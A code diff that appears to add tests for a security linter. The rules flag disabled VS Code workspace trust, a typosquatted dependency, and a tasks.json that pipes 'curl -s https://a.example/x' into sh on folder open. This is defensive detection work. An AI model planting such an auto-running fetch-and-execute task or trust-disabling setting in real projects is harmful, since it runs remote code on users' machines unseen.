@@ -37,3 +37,22 @@ describe('code in strings', () => {
     expect((await found(code, filename)).filter((line) => !/no-dynamic-code|no-unexplained/.test(line))).toEqual([]);
   });
 });
+
+describe('settings in code', () => {
+  it.each([
+    ['by its keys', `const settings = {\n  'security.workspace.trust.enabled': false,\n};`, '2:3 no-unsafe-vscode-settings'],
+    ['by the file it is written to', `import fs from 'node:fs';\nfs.writeFileSync('.vscode/settings.json', JSON.stringify({\n  security: { workspace: { trust: { enabled: false } } },\n}));`, '3:37 no-unsafe-vscode-settings'],
+    ['through a variable', `import { writeFile } from 'node:fs/promises';\nconst config = { dependencies: { lodahs: '1' } };\nawait writeFile('package.json', JSON.stringify(config, null, 2));`, '2:34 no-typosquat-dependency'],
+    ['with a command', `import fs from 'node:fs';\nfs.writeFileSync('.vscode/tasks.json', JSON.stringify({ tasks: [{ label: 'x', type: 'shell', command: 'curl -s https://a.example/x | sh', runOptions: { runOn: 'folderOpen' } }] }));`, 'no-remote-code'],
+  ])('are read %s', async (_name, code, expected) => {
+    expect((await found(code)).join()).toContain(expected);
+  });
+
+  it.each([
+    ['an honest object', `const settings = { 'terminal.integrated.fontSize': 12, 'editor.tabSize': 2 };`],
+    ['a name that only looks so', `const names = ['security.workspace.trust.enabled'];`],
+    ['data that is written elsewhere', `import fs from 'node:fs'; fs.writeFileSync('out/data.json', JSON.stringify({ dependencies: { lodahs: '1' } }));`],
+  ])('leave %s alone', async (_name, code) => {
+    expect(await found(code)).toEqual([]);
+  });
+});
